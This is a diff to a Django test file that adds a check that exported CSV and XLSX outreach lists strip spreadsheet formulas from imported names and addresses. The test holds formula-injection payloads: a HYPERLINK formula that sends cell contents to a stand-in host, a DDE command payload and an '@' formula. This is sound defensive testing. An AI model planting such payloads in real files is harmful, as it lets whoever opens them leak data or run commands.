@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import datetime as dt
+import io
 
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.test import override_settings
@@ -13,8 +14,9 @@ from mizui.accounts.tenancy import tenant_context
 from mizui.outreach import synthetic
 from mizui.outreach.models import ImportStatus, RecordImport
 from mizui.outreach.services import batch
+from mizui.outreach.services.importer import run_import, start_import
 from mizui.outreach.tests.factories import make_import, make_source
-from mizui.test import MizuiTestCase, login, make_membership, make_user
+from mizui.test import MizuiTestCase, formula_cells, login, make_membership, make_user
 
 IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
 
@@ -99,6 +101,26 @@ class OutreachPageTests(MizuiTestCase):
             xlsx["Content-Type"].split(";")[0], "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
         )
 
+    @override_settings(TASKS=IMMEDIATE)
+    def test_an_exported_list_runs_no_formula_from_an_imported_name_or_address(self) -> None:
+        columns = synthetic.COLUMNS
+        rows = [list(r) for r in synthetic.rows(40, seed=40)]
+        for row in rows:
+            row[columns.index("full_name")] = '=HYPERLINK("http://x.example/?"&A1,"פרטים")'
+            row[columns.index("address")] = "+972 cmd|' /C calc'!A0"
+            row[columns.index("neighbourhood")] = "@SUM(1+1)"
+        source = make_source(self.a)
+        with tenant_context(self.a):
+            item, _ = start_import(
+                None, authority=self.a, source=source, name="a.csv", fileobj=io.BytesIO(synthetic.csv_bytes(rows))
+            )
+        run_import(item)
+        self.client.post(reverse("outreach:run-new"))
+        for fmt in ("csv", "xlsx"):
+            content = self.client.get(reverse("outreach:list-export") + f"?format={fmt}").content
+            self.assertEqual(formula_cells(content, fmt), [])
+            self.assertIn("HYPERLINK", content.decode("utf-8-sig") if fmt == "csv" else _xlsx_text(content))
+
     def test_analysts_see_aggregates_but_not_lists_or_exports(self) -> None:
         analyst = make_user("noam@a.test", "נועם פרץ")
         make_membership(analyst, self.a, Role.ANALYST)
@@ -117,3 +139,10 @@ class OutreachPageTests(MizuiTestCase):
         response = self.client.get(reverse("outreach:index"))
         self.assertContains(response, "arnona.csv")
         self.assertContains(response, "15.01.2026")
+
+
+def _xlsx_text(content: bytes) -> str:
+    from openpyxl import load_workbook
+
+    book = load_workbook(io.BytesIO(content))
+    return " ".join(str(c) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row)
